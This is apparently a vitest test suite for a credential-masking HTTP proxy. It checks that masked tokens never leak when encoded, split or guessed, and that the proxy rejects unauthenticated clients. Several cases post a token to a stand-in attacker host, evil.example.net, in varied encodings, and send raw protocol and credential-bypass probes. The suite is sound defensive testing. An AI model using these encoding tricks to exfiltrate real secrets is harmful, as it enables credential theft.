// Published attacks 12, encodings and splits to dodge what looks for placeholders (microsandbox #702, #784, #836; OpenShell #2161, #2162, #525;
// nono #1585), 20, predictable placeholders ($MSB_X, proxy-managed), and 8, a proxy without authentication (AWF #1454, #3022; LobsterAI #2286;
// TooTallNate #487).
import { randomBytes } from 'node:crypto';
import type http from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { Secret } from '../../src/core/secret.ts';
import { mint } from '../../src/mask/mint.ts';
import { Lab } from '../proxy/lab.ts';
import { Wire } from './wire.ts';

let lab: Lab | undefined;

afterEach(async () => {
  await lab?.close();
  lab = undefined;
});

async function start(): Promise<Lab> {
  lab = await Lab.start({ secrets: [{ name: 'TOKEN', hosts: ['api.example.com'] }] });
  return lab;
}

const OURS = 'https://api.example.com/';
const EVIL = 'https://evil.example.net/';

const percent = (text: string) => text.replace(/./g, (character) => `%${character.charCodeAt(0).toString(16)}`);
const escaped = (text: string) => text.replace(/./g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`);
const basic = (text: string) => `Basic ${Buffer.from(text).toString('base64')}`;

/** In whatever way the token is written: what another host gets never holds the value. */
const SPELLINGS: readonly (readonly [
  string,
  (token: string) => { path?: string; headers?: http.OutgoingHttpHeaders; body?: string | Buffer },
])[] = [
  ['as it is', (token) => ({ headers: { authorization: token } })],
  ['in Basic', (token) => ({ headers: { authorization: basic(`user:${token}`) } })],
  ['percent-encoded in the query', (token) => ({ path: `?token=${percent(token)}` })],
  ['as JSON escapes', (token) => ({ headers: { 'content-type': 'application/json' }, body: `{"password":"${escaped(token)}"}` })],
  [
    'in a compressed body',
    (token) => ({ headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, body: gzipSync(JSON.stringify({ token })) }),
  ],
  ['in a cookie', (token) => ({ headers: { cookie: `session=${token}` } })],
  ['in a URL with user and password', (token) => ({ headers: { 'x-token': `https://u:${token}@api.example.com/` } })],
];

describe('a token in another spelling', () => {
  it.each(SPELLINGS)('encoded token: %s, to another host, stays what it is', async (_what, make) => {
    const lab = await start();
    const { path = '', headers = {}, body } = make(lab.token());
    await lab.ask(EVIL + path, {
      method: 'POST',
      headers: { ...headers, 'content-length': body?.length ?? 0 },
      ...(body === undefined ? {} : { body }),
    });
    expect(lab.received).toHaveLength(1);
    const [{ url, rawHeaders, body: sent } = { url: '', rawHeaders: [], body: Buffer.alloc(0) }] = lab.received;
    lab.examine(`${url}\n${rawHeaders.join('\n')}\n${Buffer.from(rawHeaders.join('\n').split('Basic ')[1] ?? '', 'base64').toString()}`);
    expect(sent.equals(Buffer.from(body ?? ''))).toBe(true);
    expect(url).toBe(`/${path}`);
  });

  it.each([
    ['in upper case', (token: string) => token.toUpperCase()],
    ['with one character changed', (token: string) => `${token.slice(0, -1)}${token.endsWith('0') ? '1' : '0'}`],
    ['cut short', (token: string) => token.slice(0, -1)],
    ['in two pieces', (token: string) => `${token.slice(0, 20)} ${token.slice(20)}`],
    ['in base64 without a scheme', (token: string) => Buffer.from(token).toString('base64')],
    ['in hexadecimal', (token: string) => Buffer.from(token).toString('hex')],
    ['backwards', (token: string) => Array.from(token).reverse().join('')],
    ['as JSON escapes, in a header', escaped],
    ['percent-encoded, in a header', percent],
  ])('encoded token: %s it is no token, even at its own host', async (_what, write) => {
    const lab = await start();
    const text = write(lab.token());
    await lab.ask(OURS, { headers: { authorization: text } });
    expect(lab.received).toMatchObject([{ headers: { authorization: text } }]);
  });

  it('split token: over chunks of one byte it is swapped in its slot and nowhere else', async () => {
    const lab = await start();
    const wire = new Wire(await lab.tunnel('api.example.com:443'));
    const body = JSON.stringify({ text: lab.token(), password: lab.token() });
    const chunks = Array.from(body, (character) => `1\r\n${character}\r\n`).join('');
    wire.write('POST /split HTTP/1.1\r\nHost: api.example.com\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n');
    for (const byte of `${chunks}0\r\n\r\n`) wire.write(byte);
    expect((await wire.answers(1))[0]?.status).toBe(200);
    const split = lab.received.find(({ url }) => url === '/split');
    expect(JSON.parse(split?.body.toString() ?? '')).toEqual({ text: lab.token(), password: lab.value() });
  });

  it('split token: over two fields of the same name it is no token', async () => {
    const lab = await start();
    const half = lab.token().length / 2;
    const token = lab.token();
    await lab.ask(OURS, { headers: ['Host', 'api.example.com', 'X-Token', token.slice(0, half), 'X-Token', token.slice(half)] });
    for (const { rawHeaders } of lab.received) lab.examine(rawHeaders.join('\n'));
  });
});

describe('a guessed token', () => {
  it('guessing: no random token is ever swapped', async () => {
    const lab = await start();
    const guesses = Array.from({ length: 500 }, () => `kz_masked_${randomBytes(16).toString('hex')}`);
    await lab.ask(OURS, { headers: { authorization: guesses.join(' ') } });
    await lab.ask(OURS, {
      headers: { authorization: 'kz_masked_TOKEN kz_masked_ kz_masked_00000000000000000000000000000000 $TOKEN ${TOKEN}' },
    });
    expect(lab.exchanges).toMatchObject([{ swapped: [] }, { swapped: [] }]);
    lab.examine(JSON.stringify(lab.received));
  });

  it('predictable placeholders: the token of the same value differs from run to run, and tells nothing of it', () => {
    const value = 'CANARY-the-same-in-every-run';
    const tokens = Array.from({ length: 200 }, () => mint(new Secret(value)).text);
    expect(new Set(tokens).size).toBe(200);
    for (const token of tokens) expect(token).toMatch(/^kz_masked_[0-9a-f]{32}$/);
  });
});

describe('another process of this machine', () => {
  it.each([
    ['none', ''],
    ['a wrong one', 'wrong'],
    ['the start of the right one', 'lab-credentia'],
    ['the right one and more', 'lab-credential1'],
    ['a masked token', 'kz_masked_00000000000000000000000000000000'],
  ])('unauthenticated proxy: with %s for a credential it gets a 407', async (_what, credential) => {
    const lab = await start();
    const error: unknown = await lab.connect('api.example.com:443', credential).catch((reason: unknown) => reason);
    expect(String(error)).toContain('HTTP/1.1 407 ');
    const wire = new Wire(await lab.open());
    const login = credential === '' ? '' : `Proxy-Authorization: ${basic(`kz:${credential}`)}\r\n`;
    wire.write(`GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n${login}X-Api-Key: ${lab.token()}\r\n\r\n`);
    expect((await wire.answers(1))[0]?.status).toBe(407);
    expect(lab.received).toEqual([]);
    expect(lab.events).toMatchObject([
      { type: 'refused', why: 'no-credential' },
      { type: 'refused', why: 'no-credential' },
    ]);
  });

  it.each([
    ['another scheme', 'Bearer lab-credential'],
    ['another user', basic('root:lab-credential')],
    ['the credential alone', 'lab-credential'],
  ])('unauthenticated proxy: with %s it gets a 407, for an upgrade too', async (_what, login) => {
    const lab = await start();
    for (const upgrade of ['', 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==\r\n']) {
      const wire = new Wire(await lab.open());
      wire.write(`GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nProxy-Authorization: ${login}\r\n${upgrade}\r\n`);
      expect((await wire.answers(1))[0]?.status).toBe(407);
    }
    expect(lab.received).toEqual([]);
  });

  it('unauthenticated proxy: the right credential behind a wrong one does not help', async () => {
    const lab = await start();
    const wire = new Wire(await lab.open());
    const right = basic(`kz:${new URL(lab.proxyUrl).password}`);
    wire.write(
      `GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nProxy-Authorization: x\r\nProxy-Authorization: ${right}\r\n\r\n`,
    );
    expect((await wire.answers(1))[0]?.status).toBe(407);
    expect(lab.received).toEqual([]);
  });

  it('unauthenticated proxy: it speaks HTTP and nothing else', async () => {
    const lab = await start();
    for (const bytes of [
      '\x05\x01\x00',
      '\x04\x01\x00\x50\x7f\x00\x00\x01\x00',
      '\x16\x03\x01\x00\x05hello',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    ]) {
      const wire = new Wire(await lab.open());
      wire.write(bytes);
      wire.write('\r\n\r\n');
      await wire.closed();
      expect(wire.text).not.toMatch(/^HTTP\/1\.1 2/);
    }
  });

  it('the credential of the run never goes on to a server', async () => {
    const lab = await start();
    await lab.ask('http://api.example.com/');
    await lab.ask(OURS, { headers: { 'proxy-authorization': basic(`kz:${new URL(lab.proxyUrl).password}`) } });
    expect(lab.received).toHaveLength(2);
    for (const { rawHeaders } of lab.received) expect(rawHeaders.join('\n').toLowerCase()).not.toContain('proxy-authorization');
  });
});
